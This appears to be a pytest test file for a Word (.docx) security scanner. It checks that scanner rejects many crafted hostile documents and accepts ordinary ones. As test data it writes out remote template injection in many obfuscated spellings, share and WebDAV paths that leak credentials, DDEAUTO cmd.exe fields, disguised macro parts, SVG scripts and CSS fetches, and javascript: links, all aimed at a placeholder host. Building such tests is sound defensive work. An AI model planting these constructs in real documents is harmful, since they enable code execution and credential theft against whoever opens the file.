"""A Word file is taken for what its parts are: what would fetch, start, merge or carry something is refused in any spelling."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

import pytest

from vault.verdicts import verdict_on
from vault.written import DOCUMENT, OFFICE, PACKAGE, SPACES, STRICT, R, W, field, relation, relations, word, zipped

MS = "http://schemas.microsoft.com/office/2006/relationships"
FAR = "http://192.0.2.7/mau.dotm"
PNG = (
    b"\x89PNG\r\n\x1a\n"
    + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 4, 4, 8, 2, 0, 0, 0)
    + struct.pack(">I", zlib.crc32(struct.pack(">4sIIBBBBB", b"IHDR", 4, 4, 8, 2, 0, 0, 0)))
)


def verdict(data: bytes) -> str:
    return verdict_on("don.docx", data, kind="docx")


def with_settings(inside: str, *related: str) -> bytes:
    """A Word file with settings, and what these are related to."""
    return word(
        related=[relation("settings", "settings.xml")],
        parts={
            "word/settings.xml": f"<w:settings {SPACES}>{inside}</w:settings>",
            "word/_rels/settings.xml.rels": relations(*related),
        },
        types={"/word/settings.xml": f"{OFFICE}.wordprocessingml.settings+xml"},
    )


def template(rels: str | bytes) -> bytes:
    """A Word file whose settings have these relations, as they stand."""
    return word(
        related=[relation("settings", "settings.xml")],
        parts={"word/settings.xml": f"<w:settings {SPACES}/>", "word/_rels/settings.xml.rels": rels},
        types={"/word/settings.xml": f"{OFFICE}.wordprocessingml.settings+xml"},
    )


def far(kind: str = "attachedTemplate", target: str = FAR) -> str:
    return relation(kind, target, "External")


TEMPLATES = {
    "as Word writes it": relations(far()),
    "with its attributes turned round": relations(
        f'<Relationship TargetMode="External" Target="{FAR}" Id="r1" Type="{R}/attachedTemplate"/>'
    ),
    "in single quotes, on lines": relations(
        f"<Relationship\n Type='{R}/attachedTemplate'\n\tTarget = '{FAR}' Id='r1' TargetMode\n=\n'External'\n/>"
    ),
    "with a closing mark in an attribute": relations(
        f'<Relationship Id="a&gt;b>c" Type="{R}/attachedTemplate" TargetMode="External" Target="{FAR}"/>'
    ),
    "under a prefix": f'<p:Relationships xmlns:p="{PACKAGE}"><p:Relationship Id="r1" Type="{R}/attachedTemplate"'
    f' Target="{FAR}" TargetMode="External"/></p:Relationships>',
    "with letters as numbers": relations(
        f'<Relationship Id="r1" Type="{R}/attachedTem&#112;late" Target="{FAR}" TargetMode="&#69;xternal"/>'
    ),
    "of the strict kind": relations(relation("attachedTemplate", FAR, "External", base=STRICT)),
    "in other capitals": relations(relation("AttachedTemplate", FAR, "External")),
    "in UTF-16": relations(far()).replace("UTF-8", "UTF-16").encode("utf-16"),
    "behind a mark of order": b"\xef\xbb\xbf" + relations(far()).encode(),
    "behind a comment": relations(f"<!-- <Relationship> -->{far()}"),
    "within the file by its mode, and far by its address": relations(relation("attachedTemplate", FAR)),
    "on a share": relations(far(target="\\\\192.0.2.7\\chung\\mau.dotm")),
    "on a share, with the other strokes": relations(far(target="//192.0.2.7/chung/mau.dotm")),
    "on a share, as an address": relations(far(target="file://192.0.2.7/chung/mau.dotm")),
    "on a share, as an address with five strokes": relations(far(target="file://///192.0.2.7/chung/mau.dotm")),
    "on a share, escaped": relations(far(target="file:///%5C%5C192.0.2.7%5Cchung%5Cmau.dotm")),
    "on a share, escaped twice": relations(far(target="%255C%255C192.0.2.7%255Cmau.dotm")),
    "on a share behind a disk": relations(far(target="C:\\\\192.0.2.7\\mau.dotm")),
    "by another protocol": relations(far(target="ftp://192.0.2.7/mau.dotm")),
    "by WebDAV": relations(far(target="\\\\192.0.2.7@SSL\\DavWWWRoot\\mau.dotm")),
    "with a space before it": relations(far(target=f" {FAR}")),
}


@pytest.mark.parametrize("rels", TEMPLATES.values(), ids=TEMPLATES)
def test_a_template_that_lies_elsewhere_is_refused_however_it_is_written(rels: str | bytes) -> None:
    assert verdict(template(rels)) == "remote"


FETCHED = {
    "a picture": (far("image", "http://192.0.2.7/x.png"), "remote"),
    "a picture on a share": (far("image", "\\\\192.0.2.7\\x.png"), "remote"),
    "a picture behind a space": (relation("image", " http://192.0.2.7/x.png"), "remote"),
    "a picture behind a tab": (relation("image", "&#9;//192.0.2.7/x.png"), "remote"),
    "a picture whose address is cut by a line": (relation("image", "ht&#10;tp://192.0.2.7/x.png"), "remote"),
    "a picture behind a space that is escaped": (relation("image", "%20%5C%5C192.0.2.7%5Cx.png"), "remote"),
    "a part of the document": (far("subDocument", "http://192.0.2.7/x.docx"), "remote"),
    "a frame": (far("frame", "http://192.0.2.7/x.htm"), "remote"),
    "a piece in another format": (far("aFChunk", "http://192.0.2.7/x.htm"), "remote"),
    "an object that is linked": (far("oleObject", "http://192.0.2.7/x.xlsx"), "field"),
    "a film": (far("video", "https://192.0.2.7/x.mp4"), "remote"),
    "a stylesheet that is applied": (far("transform", "http://192.0.2.7/x.xsl"), "remote"),
    "a relation that is not known": (far("chuyen", "http://192.0.2.7/x"), "remote"),
    "data of a mail merge, far away": (far("mailMergeSource", "\\\\192.0.2.7\\ds.xlsx"), "merge"),
    "a letter that takes a file along": (far("hyperlink", "mailto:a@b.example?subject=x&amp;attach=/etc/hosts"), "link"),
    "a link to a program": (far("hyperlink", "file:///C:/Windows/System32/calc.exe"), "link"),
    "a link to a share": (far("hyperlink", "file://192.0.2.7/chung/x.docx"), "link"),
    "a link to a share, as a path": (far("hyperlink", "\\\\192.0.2.7\\chung\\x.docx"), "link"),
    "a link that is a script": (far("hyperlink", "javascript:alert(1)"), "link"),
    "a link that starts Office": (far("hyperlink", "ms-word:ofe|u|http://192.0.2.7/x.docx"), "link"),
    "a link that searches elsewhere": (far("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\192.0.2.7"), "link"),
    "a link to a web page behind a share": (far("hyperlink", "http:\\\\192.0.2.7\\x"), "link"),
    "a link with a mode that is none": (relation("hyperlink", "http://192.0.2.7", "External "), "opaque"),
}


@pytest.mark.parametrize(("related", "reason"), FETCHED.values(), ids=FETCHED)
def test_nothing_but_an_ordinary_link_leads_out_of_the_file(related: str, reason: str) -> None:
    assert verdict(word(related=[related])) == reason


CARRIED = {
    "an object": ({"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}, {"bin": f"{OFFICE}.oleObject"}, "embedded"),
    "a sheet": (
        {"word/embeddings/b.xlsx": zipped({"xl/workbook.xml": "x"})},
        {"xlsx": f"{OFFICE}.spreadsheetml.sheet"},
        "embedded",
    ),
    "a program without a type": ({"word/embeddings/x.exe": b"MZ\x90" + bytes(99)}, {}, "embedded"),
    "a program under the type of a picture": ({"word/media/1.png": b"MZ\x90" + bytes(99)}, {}, "no picture"),
    "a program as a printer's settings": (
        {"word/printerSettings/1.bin": b"MZ\x90" + bytes(99)},
        {"bin": f"{OFFICE}.wordprocessingml.printerSettings"},
        "embedded",
    ),
    "a program as a font": ({"word/fonts/1.odttf": b"MZ" + bytes(999)}, {"odttf": f"{OFFICE}.obfuscatedFont"}, "embedded"),
    "an archive as a font": (
        {"word/fonts/1.odttf": zipped({"a": "b" * 99})},
        {"odttf": f"{OFFICE}.obfuscatedFont"},
        "embedded",
    ),
    "a control": (
        {"word/activeX/activeX1.xml": "<x/>"},
        {"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        "embedded",
    ),
    "a web page": ({"word/afchunk.htm": "<html/>"}, {"htm": "text/html"}, "foreign part"),
    "a part of no type": ({"word/la.dat": b"abc"}, {}, "foreign part"),
    "a part of an unknown type": ({"word/la.xml": "<a/>"}, {"/word/la.xml": "application/x-la+xml"}, "foreign part"),
    "an add-in that loads itself": (
        {"word/webextensions/taskpanes.xml": "<a/>"},
        {"/word/webextensions/taskpanes.xml": "application/vnd.ms-office.webextensiontaskpanes+xml"},
        "remote",
    ),
    "macros": ({"word/vbaProject.bin": b"x"}, {"bin": "application/vnd.ms-office.vbaProject"}, "macros"),
    "macros in other capitals": ({"word/VBAPROJECT.BIN": b"x"}, {"bin": "image/png"}, "macros"),
    "macros under another name": (
        {"word/media/1.png": b"x"},
        {"/word/media/1.png": "application/vnd.ms-office.vbaProject"},
        "macros",
    ),
    "keys that start macros": (
        {"word/customizations.xml": "<a/>"},
        {"/word/customizations.xml": "application/vnd.ms-word.keyMapCustomizations+xml"},
        "macros",
    ),
    "a part named twice, in two cases": ({"word/media/1.png": PNG, "WORD/media/1.PNG": PNG}, {}, "opaque"),
    "a part named twice, one escaped": ({"word/media/1.png": PNG, "word/m%65dia/1.png": PNG}, {}, "opaque"),
    "a name that leads out": ({"word/..%2f..%2fx.png": PNG}, {}, "broken"),
    "a name with the other stroke": ({"word\\x.png": PNG}, {}, "broken"),
    "an entity": ({"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, {}, "broken"),
    "a type from elsewhere": ({"word/x.xml": '<!DOCTYPE a SYSTEM "http://192.0.2.7/a.dtd"><a/>'}, {}, "broken"),
    "a stylesheet from elsewhere": ({"word/x.xml": '<?xml-stylesheet href="http://192.0.2.7/a.xsl"?><a/>'}, {}, "remote"),
    "a part that is no XML": ({"word/x.xml": "kính gửi"}, {}, "broken"),
    "a picture of too many points": (
        {"word/media/1.png": PNG[:16] + struct.pack(">II", 60_000, 60_000) + PNG[24:]},
        {},
        "pixels",
    ),
    "a drawing with a script": ({"word/media/1.svg": "<svg xmlns='s'><script/></svg>"}, {"svg": "image/svg+xml"}, "macros"),
    "a drawing that acts": ({"word/media/1.svg": "<svg onload='x()'/>"}, {"svg": "image/svg+xml"}, "macros"),
    "a drawing that fetches": (
        {"word/media/1.svg": "<svg xmlns:x='http://www.w3.org/1999/xlink'><image x:href='http://192.0.2.7/x'/></svg>"},
        {"svg": "image/svg+xml"},
        "remote",
    ),
    **{
        f"a drawing whose style fetches, {how}": (
            {"word/media/1.svg": f"<svg>{inside}</svg>"},
            {"svg": "image/svg+xml"},
            "remote",
        )
        for how, inside in {
            "by a number": "<style>a{fill:u\\72l(http://192.0.2.7/x)}</style>",
            "by a number and a space": "<rect style='fill:\\000075 rl(http://192.0.2.7/x)'/>",
            "by the whole sheet": "<style>@im\\70ort 'http://192.0.2.7/x.css';</style>",
            "cut by an element": "<style>@imp<a/>ort 'http://192.0.2.7/x.css';</style>",
            "far from its beginning": f"<style>{'/**/' * 9000}a{{fill:url(http://192.0.2.7/x)}}</style>",
            "among several": "<style>a{background:image-set('http://192.0.2.7/x' 1x)}</style>",
        }.items()
    },
    "a drawing with a piece of a web page": (
        {"word/media/1.svg": "<svg xmlns:h='http://www.w3.org/1999/xhtml'><h:img srcset='http://192.0.2.7/x 1x'/></svg>"},
        {"svg": "image/svg+xml"},
        "foreign part",
    ),
    "a drawing that lies elsewhere": (
        {"word/media/1.svg": "<svg xml:base='http://192.0.2.7/'><use href='#a'/></svg>"},
        {"svg": "image/svg+xml"},
        "remote",
    ),
    "Word's own markup as a drawing": (
        {"word/media/1.svg": f"<w:hdr {SPACES}>{field('INCLUDEPICTURE http://192.0.2.7/x')}</w:hdr>"},
        {"svg": "image/svg+xml"},
        "opaque",
    ),
    "Word's own markup within a drawing": (
        {"word/media/1.svg": f"<svg><w:p {SPACES}>{field('INCLUDEPICTURE http://192.0.2.7/x')}</w:p></svg>"},
        {"svg": "image/svg+xml"},
        "opaque",
    ),
    "a drawing whose style fetches": (
        {"word/media/1.svg": "<svg><style>a{fill:url(http://192.0.2.7/x)}</style></svg>"},
        {"svg": "image/svg+xml"},
        "remote",
    ),
}


@pytest.mark.parametrize(("parts", "types", "reason"), CARRIED.values(), ids=CARRIED)
def test_every_part_is_of_a_kind_that_is_listed_and_is_what_it_says(
    parts: dict[str, bytes | str], types: dict[str, str], reason: str
) -> None:
    assert verdict(word(parts=parts, types=types)) == reason


@pytest.mark.parametrize(
    ("name", "kind", "data"),
    [
        ("fonts/1.ttf", "application/x-font-ttf", b"<w:settings a='".ljust(44) + b"AAAA" + bytes(12) + b"BBBB"),
        ("p.bin", f"{OFFICE}.wordprocessingml.printerSettings", b"<w:settings/>"),
        ("media/1.png", "image/png", PNG),
        ("s.svg", "image/svg+xml", b"<svg/>"),
    ],
)
@pytest.mark.parametrize("target", ["{}", "/word/{}", "./x/../{}", "{}#a", "%2E/{}"])
def test_a_part_that_is_not_read_as_markup_is_reached_as_what_it_is_alone(
    name: str, kind: str, data: bytes, target: str
) -> None:
    parts: dict[str, bytes | str] = {f"word/{name}": data}
    for how in ("settings", "header", "customXml"):
        related = [relation(how, target.format(name))]
        assert verdict(word(related=related, parts=parts, types={f"/word/{name}": kind})) == "opaque"


def test_a_part_has_one_type() -> None:
    twice = (
        '<Override PartName="/word/a.xml" ContentType="application/xml"/>'
        '<Override PartName="/WORD/%61.xml" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    plain = word(parts={"word/a.xml": "<a/>"})
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        parts = {each: archive.read(each) for each in archive.namelist()}
    types = parts["[Content_Types].xml"].decode()
    for more, said in ((twice, "opaque"), (twice.replace("vnd.ms-office.vbaProject", "xml"), "taken")):
        parts["[Content_Types].xml"] = types.replace("</Types>", f"{more}</Types>").encode()
        assert verdict(zipped(parts)) == said


def nested(inner: str, rest: str) -> str:
    """A field whose word is the result of another."""
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return f"{begin}{inner}<w:r><w:instrText>{rest}</w:instrText></w:r>{end}"


FIELDS = {
    "a picture from elsewhere": (field(' INCLUDEPICTURE "http://192.0.2.7/x.png" \\d '), "remote"),
    "a text from elsewhere": (field("INCLUDETEXT \\\\\\\\192.0.2.7\\\\x.docx"), "field"),
    "a program": (field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "field"),
    "a program, in small letters": (field("dde cmd"), "field"),
    "a program, cut into runs": (field("D", "DE", "AUTO cmd"), "field"),
    "a program, in one element": ('<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>', "field"),
    "a program within a harmless field": (field("IF ", result="1") + nested(field("DDE cmd"), " = 1"), "field"),
    "a word made by another field": (nested(field("QUOTE 68 68 69"), " cmd"), "field"),
    "a program in ordinary letters": (
        '<w:r><w:fldChar w:fldCharType="begin"/><w:t>DDEAUTO cmd</w:t><w:fldChar w:fldCharType="end"/></w:r>',
        "field",
    ),
    "a program behind what was deleted": (
        '<w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO cmd</w:instrText>'
        '<w:fldChar w:fldCharType="end"/></w:r>',
        "field",
    ),
    "a program in one of two branches": (
        '<w:r><w:fldChar w:fldCharType="begin"/><mc:AlternateContent>'
        "<mc:Fallback><w:instrText>PAGE </w:instrText></mc:Fallback>"
        '<mc:Choice Requires="w"><w:instrText>DDEAUTO cmd</w:instrText></mc:Choice></mc:AlternateContent>'
        '<w:fldChar w:fldCharType="end"/></w:r>',
        "field",
    ),
    "a program in a field that is not ended": (
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>',
        "field",
    ),
    "a link to data": (field("LINK Excel.Sheet.12 x.xlsx"), "field"),
    "a database": (field('DATABASE \\d "x"'), "field"),
    "another document's contents": (field("RD http://192.0.2.7/x.docx"), "field"),
    "a macro": (field("MACROBUTTON TuChay Bấm"), "field"),
    "commands for a printer": (field("PRINT 27"), "field"),
    "a word that is not known": (field("XINCHAO"), "field"),
    "a link to a share": (field('HYPERLINK "\\\\\\\\192.0.2.7\\\\x"'), "link"),
    "a link that is a script": (field('HYPERLINK "javascript:x"'), "link"),
    "a link made by another field": (
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "</w:instrText></w:r>'
        + field("QUOTE x")
        + '<w:r><w:instrText>"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>',
        "link",
    ),
}


@pytest.mark.parametrize(("body", "reason"), FIELDS.values(), ids=FIELDS)
def test_a_field_that_is_not_listed_is_refused_wherever_its_word_stands(body: str, reason: str) -> None:
    assert verdict(word(body)) == reason
    assert verdict(word(body, w="http://purl.oclc.org/ooxml/wordprocessingml/main")) == reason
    footer = word(
        related=[relation("footer", "footer1.xml")],
        parts={"word/footer1.xml": f"<w:ftr {SPACES}><w:p>{body}</w:p></w:ftr>"},
        types={"/word/footer1.xml": f"{OFFICE}.wordprocessingml.footer+xml"},
    )
    assert verdict(footer) == reason


ELEMENTS = {
    "a piece in another format": ('<w:altChunk r:id="r1"/>', "embedded"),
    "an object": ('<w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/></w:object>', "field"),
    "a control": ('<w:object><w:control w:name="x" r:id="r1"/></w:object>', "embedded"),
    "a part of another document": ('<w:subDoc r:id="r1"/>', "remote"),
    "a picture of old drawings": ('<w:pict><v:shape><v:imagedata src="http://192.0.2.7/x"/></v:shape></w:pict>', "remote"),
    "a picture of old drawings, by its origin": (
        '<w:pict><v:shape><v:imagedata o:href="http://192.0.2.7/x"/></v:shape></w:pict>',
        "remote",
    ),
    "a fill of old drawings": ('<w:pict><v:rect><v:fill src="\\\\192.0.2.7\\x"/></v:rect></w:pict>', "remote"),
    "a style that fetches": ('<w:pict><v:rect style="background:URL(http://192.0.2.7)"/></w:pict>', "remote"),
    "a shape that opens a share": ('<w:pict><v:shape href="\\\\192.0.2.7\\x"/></w:pict>', "link"),
    "a macro on entering a form": ('<w:ffData><w:entryMacro w:val="Chay"/></w:ffData>', "macros"),
    "within a branch": (
        '<mc:AlternateContent><mc:Choice Requires="x"><w:altChunk r:id="r1"/></mc:Choice></mc:AlternateContent>',
        "embedded",
    ),
    "under another prefix": (f'<x:altChunk xmlns:x="{W}"/>', "embedded"),
    "of the strict kind": ('<x:altChunk xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main"/>', "embedded"),
    "without a prefix": (f'<altChunk xmlns="{W}"/>', "embedded"),
    "a film of the web": (
        '<x:webVideoPr xmlns:x="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="x"/>',
        "remote",
    ),
    "a press that starts something": ('<a:hlinkClick action="ppaction://program"/>', "link"),
}


@pytest.mark.parametrize(("body", "reason"), ELEMENTS.values(), ids=ELEMENTS)
def test_an_element_that_fetches_or_carries_is_refused_in_any_prefix(body: str, reason: str) -> None:
    assert verdict(word(body)) == reason


def within(related: str = "", inside: str = "") -> str:
    """A drawing kept within an older one."""
    package = zipped(
        {
            "_rels/.rels": relations(
                relation("shapeXml", "drs/shapexml.xml", base=MS), relation("downRev", "drs/downrev.xml", base=MS)
            ),
            "drs/shapexml.xml": f"<a:shape {SPACES}>{inside}</a:shape>",
            "drs/_rels/shapexml.xml.rels": relations(relation("image", "../media/1.png"), related),
            "drs/downrev.xml": f"<a:shape {SPACES}/>",
            "media/1.png": PNG,
        }
    )
    return f'<w:pict><v:shape o:gfxdata="{base64.encodebytes(package).decode()}"/></w:pict>'


def test_a_drawing_within_a_drawing_is_looked_at_too() -> None:
    assert verdict(word(within())) == "taken"
    assert verdict(word(within(far("image", "http://192.0.2.7/x")))) == "remote"
    assert verdict(word(within(inside='<v:fill src="http://192.0.2.7/x"/>'))) == "remote"
    assert verdict(word(within(inside=within()))) == "tangled"
    assert verdict(word('<w:pict><v:shape o:gfxdata="UEsDBA"/></w:pict>')) == "opaque"


CONNECTED = {
    "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=D:\\Don\\ds.xlsx;Extended Properties=&quot;HDR=YES;&quot;": "taken",
    r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\192.0.2.7\ds.xlsx": "merge",
    "Provider=SQLOLEDB.1;Data Source=may-chu;Initial Catalog=x": "merge",
    "DSN=Excel Files;DBQ=D:\\ds.xls;DefaultDir=D:\\Don": "taken",
    "DSN=x;Server=192.0.2.7": "merge",
}


LOCAL = {
    "a picture": far("image", "file:///C:/Don/anh.png"),
    "a picture of a Mac": far("image", "file:////Volumes/Don/anh.png"),
    "a picture by the machine's own name": far("image", "file://localhost/Volumes/Don/anh.png"),
    "the sheet behind a chart": far("oleObject", "file:///C:\\Don\\x.xlsx"),
    "data of a mail merge": far("mailMergeSource", "file:///D:\\ds.xlsx"),
    "a template": far(target="file:///C:\\Users\\ba\\AppData\\Roaming\\Microsoft\\Templates\\M%E1%BA%ABu.dotx"),
}


@pytest.mark.parametrize("related", LOCAL.values(), ids=LOCAL)
def test_what_lies_on_the_writers_own_disk_is_no_spy(related: str) -> None:
    assert verdict(word(related=[related])) == "taken"


@pytest.mark.parametrize(
    ("instruction", "reason"),
    [
        ('INCLUDEPICTURE "C:\\\\Don\\\\anh.png" \\d', "taken"),
        ('INCLUDEPICTURE \\d "anh.png"', "taken"),
        ('INCLUDEPICTURE "http://192.0.2.7/x.png" \\d', "remote"),
        ('INCLUDEPICTURE "\\\\\\\\192.0.2.7\\\\x.png"', "remote"),
        ("EMBED Excel.Sheet.12", "taken"),
    ],
)
def test_a_picture_that_a_field_shows_lies_on_ones_own_disk_or_nowhere(instruction: str, reason: str) -> None:
    assert verdict(word(field(instruction))) == reason


def test_settings_pages_of_the_web_and_properties_are_looked_at_too() -> None:
    assert verdict(with_settings("<w:mailMerge><w:query w:val='SELECT * FROM `Sheet1$`'/></w:mailMerge>")) == "taken"
    for said, reason in CONNECTED.items():
        assert verdict(with_settings(f"<w:mailMerge><w:connectString w:val='{said}'/></w:mailMerge>")) == reason, said
    assert verdict(with_settings("<w:saveThroughXslt r:id='r1'/>")) == "remote"
    web = {"/word/webSettings.xml": f"{OFFICE}.wordprocessingml.webSettings+xml"}
    frames = {"word/webSettings.xml": f"<w:webSettings {SPACES}><w:frameset/></w:webSettings>"}
    assert verdict(word(parts=frames, types=web)) == "remote"
    base = "<Properties xmlns='http://schemas.openxmlformats.org/officeDocument/2006/extended-properties'>{}</Properties>"
    app = {"/docProps/app.xml": f"{OFFICE}.extended-properties+xml"}
    far_base = base.format("<HyperlinkBase>\\\\192.0.2.7\\</HyperlinkBase>")
    assert verdict(word(parts={"docProps/app.xml": far_base}, types=app)) == "link"
    assert verdict(word(parts={"docProps/app.xml": base.format("<Pages>2</Pages>")}, types=app)) == "taken"


def test_the_document_is_the_part_that_the_package_names() -> None:
    assert verdict(word(main="word/document2.xml")) == "taken"
    assert verdict(word(main="van-ban/x.xml", related=[far()])) == "remote"
    assert verdict(word(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")) == "macros"
    assert verdict(word(main_type=f"{OFFICE}.spreadsheetml.sheet.main+xml")) == "broken"
    assert verdict(word(parts={"word/document.xml": "<document/>"})) == "broken"
    assert verdict(word(parts={"word/document.xml": f"<w:styles {SPACES}/>"})) == "broken"
    twice = relations(relation("officeDocument", "word/document.xml"), relation("officeDocument", "word/b.xml"))
    assert verdict(word(root=twice)) == "opaque"
    assert verdict(word(root=relations(relation("officeDocument", "word/../word/document.xml")))) == "taken"


def pushed_apart(data: bytes, gap: int) -> bytes:
    """The same file with so many bytes before its second part."""
    at = data.index(b"PK\x03\x04", 4)
    moved = bytearray(data[:at] + b"x" * gap + data[at:])
    entry = moved.index(b"PK\x01\x02")
    while entry >= 0:
        begins = int.from_bytes(moved[entry + 42 : entry + 46], "little")
        if begins >= at:
            moved[entry + 42 : entry + 46] = (begins + gap).to_bytes(4, "little")
        entry = moved.find(b"PK\x01\x02", entry + 4)
    end = moved.rindex(b"PK\x05\x06")
    moved[end + 16 : end + 20] = (int.from_bytes(moved[end + 16 : end + 20], "little") + gap).to_bytes(4, "little")
    return bytes(moved)


def test_nothing_hides_between_the_parts_or_behind_them() -> None:
    good = word()
    index = good.index(b"PK\x01\x02")
    inside = bytearray(good[:index] + b"<script>" * 9 + good[index:])
    at = inside.rindex(b"PK\x05\x06")
    inside[at + 16 : at + 20] = (index + 72).to_bytes(4, "little")
    assert verdict(bytes(inside)) == "hidden"
    assert verdict(pushed_apart(good, 90)) == "hidden"
    assert verdict(pushed_apart(good, 16)) == "taken"  # what some programs write behind a part, its sum and sizes
    commented = bytearray(good + b"x" * 3000)
    commented[-3002:-3000] = (3000).to_bytes(2, "little")
    assert verdict(bytes(commented)) == "hidden"


HONEST = {
    "plain": word(),
    "of Word, with its usual parts": word(
        field(" PAGE  \\* MERGEFORMAT ")
        + field(' TOC \\o "1-3" \\h \\z \\u ')
        + field(' HYPERLINK \\l "_Toc1" ')
        + field(' HYPERLINK "https://vanban.example/luat" \\o "LINK" ')
        + field("PAGEREF DATA \\h")
        + field("=SUM(ABOVE)")
        + field(' DATE \\@ "dd/MM/yyyy" ')
        + field("SEQ Hình \\* ARABIC")
        + field(" FORMTEXT ")
        + field("MERGEFIELD Link")
        + field("ADDIN ZOTERO_ITEM CSL_CITATION {}")
        + field("PAGE\\* Arabic")
        + field("MACROBUTTON NoMacro [gõ vào đây]")
        + '<w:hyperlink r:id="r1" w:history="1"><w:r><w:t>x</w:t></w:r></w:hyperlink>'
        + '<mc:AlternateContent><mc:Choice Requires="wps"><w:r/></mc:Choice><mc:Fallback><w:pict><v:shape href="#a"'
        ' style="width:10pt"><v:imagedata r:id="r2" o:title="http://a.example"/></v:shape></w:pict></mc:Fallback></mc:AlternateContent>'
        + '<w:ffData><w:entryMacro w:val=""/></w:ffData>',
        related=[
            relation("hyperlink", "https://dichvucong.example/tra-cuu?a=1&amp;b=2", "External"),
            relation("hyperlink", "mailto:ba@thu.example?subject=Đơn", "External"),
            relation("hyperlink", "tel:+84912345678", "External"),
            relation("hyperlink", "#_Toc1", "External"),
            relation("hyperlink", "Phu%20luc%201.docx", "External"),
            relation("hyperlink", "file:///C:\\Don\\Đơn%201.pdf", "External"),
            relation("image", "media/1.png"),
            relation("image", "/word/media/2.jpeg"),
            relation("image", "../NULL"),
            relation("customXml", "../customXml/item1.xml"),
            relation("stylesWithEffects", "s.xml", base="http://schemas.microsoft.com/office/2007/relationships"),
        ],
        parts={
            "word/media/1.png": PNG,
            "word/media/2.jpeg": PNG,  # a chat program's picture, under the wrong ending
            "customXml/item1.xml": "<du-lieu src='http://a.example/' href='\\\\may\\x'><script/></du-lieu>",
            "word/s.xml": f"<w:styles {SPACES}/>",
            "[trash]/0000.dat": bytes(50),
        },
        types={"/word/s.xml": "application/vnd.ms-word.stylesWithEffects+xml"},
    ),
    "from a template on one's own disk": template(relations(far(target="file:///C:\\Don\\Templates\\Mau%20don.dotx"))),
    "from a template of a Mac": template(relations(far(target="file:///Library/Mau/Mau.dotm"))),
    "from a template by its bare name": template(relations(far(target="Normal.dotm"))),
    "of Google, with a font and a picture": word(
        parts={"word/fonts/a.ttf": b"\0\1\0\0" + bytes(8) + b"cmap" + bytes(28) + b"glyf" + bytes(12) + b"head" + bytes(99)},
        types={"ttf": "application/x-font-ttf"},
        related=[relation("font", "fonts/a.ttf")],
    ),
    "of the strict kind": word(root=relations(relation("officeDocument", "word/document.xml", base=STRICT))),
    "in UTF-16": word(
        parts={
            "word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:document {SPACES}/>'.encode("utf-16"),
        }
    ),
    "with folders": zipped({"word/": "", "_rels/": ""}) and word(parts={"word/theme/": ""}),
    "with a drawing": word(
        parts={"word/media/1.svg": "<svg xmlns='http://www.w3.org/2000/svg'><use href='#a'/><path fill='url(#b)'/></svg>"},
        types={"svg": "image/svg+xml"},
    ),
    "as a template": word(main_type=DOCUMENT.replace("document.main", "template.main")),
}


@pytest.mark.parametrize("data", HONEST.values(), ids=HONEST)
def test_what_people_write_is_taken(data: bytes) -> None:
    assert verdict(data) == "taken"
